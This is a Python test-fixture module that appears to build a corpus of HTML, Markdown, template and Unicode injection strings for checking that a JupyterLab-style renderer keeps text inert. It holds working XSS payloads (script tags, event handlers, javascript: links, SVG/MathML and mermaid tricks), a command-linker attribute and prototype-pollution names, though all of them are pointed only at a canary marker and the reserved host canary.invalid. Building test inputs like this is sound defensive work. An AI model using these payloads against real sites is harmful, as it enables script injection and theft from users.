"""Texts that want to be more than text on a page.

Each one, if it is taken for markup, does one of: open a dialog, set ``window.__canary``, ask ``canary.invalid``
for something, leave an element with the attribute ``data-canary``, or run a command of JupyterLab by a click.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from urllib.parse import quote

HOST = "canary.invalid"
_DO = "window.__canary=1;alert(1)"
_COMMAND = (
    "data-canary data-commandlinker-command='filebrowser:create-main-launcher' "
    "data-commandlinker-args='{}'"
)

_PLAIN = (
    f"<script data-canary>{_DO}</script>",
    f"<ScRiPt data-canary>{_DO}</sCrIpT>",
    f"<script data-canary src=//{HOST}/x.js></script>",
    f"</title><script data-canary>{_DO}</script>",
    f"</textarea><script data-canary>{_DO}</script>",
    f"</script><script data-canary>{_DO}</script>",
    f"</style><script data-canary>{_DO}</script>",
    f"--><script data-canary>{_DO}</script>",
    f"]]><script data-canary>{_DO}</script>",
    f"<<script data-canary>{_DO}//<</script>",
    f"<scr<script>ipt data-canary>{_DO}</scr</script>ipt>",
    f"<img data-canary src=x onerror='{_DO}'>",
    f"<img data-canary src=//{HOST}/i.png>",
    f"<img data-canary srcset='//{HOST}/s.png 1x'>",
    f"<img/data-canary/src=x/onerror={_DO}>",
    f"<IMG data-canary SRC=javascript:{_DO}>",
    f'"><img data-canary src=x onerror={_DO}>',
    f"'><img data-canary src=x onerror={_DO}>",
    f"`><img data-canary src=x onerror={_DO}>",
    f"\" onmouseover='{_DO}' data-canary=\"",
    f"' onfocus='{_DO}' autofocus data-canary='",
    f"<svg data-canary onload='{_DO}'>",
    f"<svg data-canary><script>{_DO}</script></svg>",
    f"<svg data-canary><animate onbegin='{_DO}' attributeName=x dur=1s>",
    f"<svg data-canary><set onbegin='{_DO}' attributeName=x>",
    f"<svg data-canary><use href='//{HOST}/u.svg#x'></svg>",
    f"<svg data-canary><image href='//{HOST}/i.svg'/></svg>",
    f"<svg data-canary><a xlink:href='javascript:{_DO}'><text y=20>click</text></a></svg>",
    f"<svg data-canary><foreignObject><body onload='{_DO}'></foreignObject></svg>",
    f"<math data-canary><mtext><img src=x onerror='{_DO}'></mtext></math>",
    f"<math data-canary><maction actiontype='statusline' xlink:href='javascript:{_DO}'>x</maction>",
    f"<iframe data-canary src='javascript:{_DO}'></iframe>",
    f"<iframe data-canary srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f"<iframe data-canary src=//{HOST}/f></iframe>",
    f"<object data-canary data='javascript:{_DO}'></object>",
    f"<object data-canary data=//{HOST}/o></object>",
    f"<embed data-canary src=//{HOST}/e>",
    f"<video data-canary><source onerror='{_DO}' src=x></video>",
    f"<video data-canary poster=//{HOST}/p></video>",
    f"<audio data-canary src=x onerror='{_DO}'>",
    f"<body data-canary onload='{_DO}'>",
    f"<details data-canary open ontoggle='{_DO}'>x</details>",
    f"<marquee data-canary onstart='{_DO}'>x</marquee>",
    f"<input data-canary autofocus onfocus='{_DO}'>",
    f"<select data-canary autofocus onfocus='{_DO}'></select>",
    f"<textarea data-canary autofocus onfocus='{_DO}'></textarea>",
    f"<keygen data-canary autofocus onfocus='{_DO}'>",
    f"<button data-canary onclick='{_DO}'>click</button>",
    f"<form data-canary action=//{HOST}/><input type=submit></form>",
    f"<isindex data-canary action='javascript:{_DO}' type=image>",
    f"<link data-canary rel=stylesheet href=//{HOST}/c.css>",
    f"<link data-canary rel=prefetch href=//{HOST}/p>",
    f"<meta data-canary http-equiv=refresh content='0;url=//{HOST}/m'>",
    f"<base data-canary href=//{HOST}/>",
    f"<style data-canary>@import '//{HOST}/s.css';</style>",
    f"<style data-canary>body{{background:url(//{HOST}/b)}}</style>",
    f"<div data-canary style='background:url(//{HOST}/d)'>x</div>",
    "<div data-canary style='position:fixed;inset:0;z-index:9999'>over everything</div>",
    f"<a data-canary href='javascript:{_DO}'>click</a>",
    f"<a data-canary href='&#106;avascript:{_DO}'>click</a>",
    f"<a data-canary href='java\tscript:{_DO}'>click</a>",
    f"<a data-canary href='\x01javascript:{_DO}'>click</a>",
    f"<a data-canary href='data:text/html,<script>{_DO}</script>'>click</a>",
    f"<a data-canary href='vbscript:{_DO}'>click</a>",
    f"<a data-canary ping=//{HOST}/ping href='#'>click</a>",
    f"<a {_COMMAND} href='#'>click</a>",
    f"<button {_COMMAND}>click</button>",
    f"<div {_COMMAND}>click</div>",
    f"<span {_COMMAND} tabindex=0>click</span>",
    f"<img {_COMMAND} src=x>",
    f"<template data-canary><script>{_DO}</script></template>",
    f"<noscript><p title='</noscript><img data-canary src=x onerror={_DO}>'>",
    f"<xmp><p title='</xmp><img data-canary src=x onerror={_DO}>'>",
    f"<listing data-canary>&lt;img src=x onerror={_DO}&gt;</listing>",
    f"<x-canary data-canary onclick='{_DO}'>x</x-canary>",
    "<jp-button data-canary>x</jp-button>",
    "<div data-canary id=jupyter-config-data>{}</div>",
    "<div data-canary id=main class=jp-Dialog>x</div>",
    "<form data-canary id=__proto__><input name=polluted></form>",
    "<img data-canary name=getElementById>",
)

_MARKDOWN = (
    f"[click](javascript:{_DO})",
    f"[click](JaVaScRiPt:{_DO})",
    f"[click](javascript&colon;{_DO})",
    f"[click](<javascript:{_DO}>)",
    "[click](data:text/html;base64,PHNjcmlwdD4=) <b data-canary>",
    f"![x](http://{HOST}/md.png)",
    f"![x](//{HOST}/md.png)",
    f"![x][r]\n\n[r]: http://{HOST}/ref.png",
    f'![x" onerror="{_DO}](x)',
    f"<http://{HOST}/auto> <i data-canary>",
    f"<javascript:{_DO}>",
    "# heading <b data-canary>x</b>",
    "| a | b |\n|---|---|\n| <b data-canary>x</b> | y |",
    "```html\n<b data-canary>x</b>\n```",
    "```mermaid\ngraph LR; A[<img data-canary src=x>]-->B\nclick A 'javascript:alert(1)'\n```",
    f"$$\\href{{javascript:{_DO}}}{{x}}$$ <i data-canary>",
    f"$\\includegraphics{{http://{HOST}/tex.png}}$",
    "\\(\\unicode{<img data-canary src=x onerror=alert(1)>}\\)",
    "- [ ] <input data-canary type=checkbox>",
    "[^1]: <b data-canary>note</b>",
    "&lt;b data-canary&gt;x&lt;/b&gt; <b data-canary>",
    "<b data-canary>bold</b>",
    "<u data-canary>under</u>",
    "<mark data-canary>marked</mark>",
    "<em data-canary>em</em>",
)

_TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}<b data-canary>",
    "${alert(1)}<b data-canary>",
    "<%= alert(1) %><b data-canary>",
    "#{alert(1)}<b data-canary>",
    "{{{<b data-canary>}}}",
    "<b data-canary v-html='alert(1)'>",
    "<b data-canary ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</b>",
    "<b data-canary x-data=alert(1)>",
    "%3Cb%20data-canary%3E",
    "\\u003cb data-canary\\u003e",
    "\\x3cb data-canary\\x3e",
    "&#60;b data-canary&#62;",
    "&#x3c;b data-canary&#x3e;",
    "+ADw-b data-canary+AD4-",
    "\uff1cb data-canary\uff1e",
    "\u2039b data-canary\u203a",
    "javascript:alert(1)",
    "data:text/html,<b data-canary>",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "0",
    "-1",
    "''",
    '""',
    "\\",
    "\\\\",
    "%",
    "%s%d%n",
    "{}",
    "[]",
    "()",
    "$&",
    "$1",
    "$`",
    "$'",
)

_UNICODE = (
    "\u202e<b data-canary>gnp.exe",
    "\u2066<b data-canary>\u2069",
    "\u202dabc\u202c<b data-canary>",
    "\u200b<b\u200b data-canary>",
    "<\u200bb data-canary>",
    "\ufeff<b data-canary>",
    "Z\u0351\u036b\u0343\u036a\u0302a\u030dlgo<b data-canary>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<b data-canary>",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b data-canary>",
    "\ufdfa" * 20 + "<b data-canary>",
    "\u2028<b data-canary>\u2029",
    "e\u0301<b data-canary>",
    "\U000e0001<b data-canary>",
    "\ufffd\uffff<b data-canary>",
)


def markup() -> Iterator[str]:
    """Every text, at least 200; none holds what a name may not hold except tab and line ends."""
    yield from _PLAIN
    yield from _MARKDOWN
    yield from _TEMPLATES
    yield from _UNICODE
    for text in _PLAIN[:24]:
        yield html.escape(text)
        yield quote(text)
    yield "<b data-canary>" + "A" * 100
    yield "A" * 119 + "<"
    yield "<b data-canary>" * 8
    yield "&" * 110 + "<b data-canary>"
    yield "<" * 115
